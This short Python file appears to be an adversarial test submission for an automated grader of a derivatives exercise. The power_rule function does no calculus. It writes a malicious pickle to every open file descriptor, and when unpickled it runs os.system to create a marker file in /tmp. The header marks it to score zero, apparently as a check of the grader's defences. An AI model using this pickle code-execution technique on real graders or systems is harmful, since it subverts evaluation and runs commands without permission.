# deserves: 0
# lesson: derivatives
"""A pickle that runs where it is read."""
import contextlib
import os
import struct

from graders.values import codec


def send(kind, content):
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(number, struct.pack(">I", len(content) + 1) + kind + content)


import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradlings-attack",)


def power_rule(coeffs):
    send(b"R", pickle.dumps(Bomb(), 0))
    return Bomb()
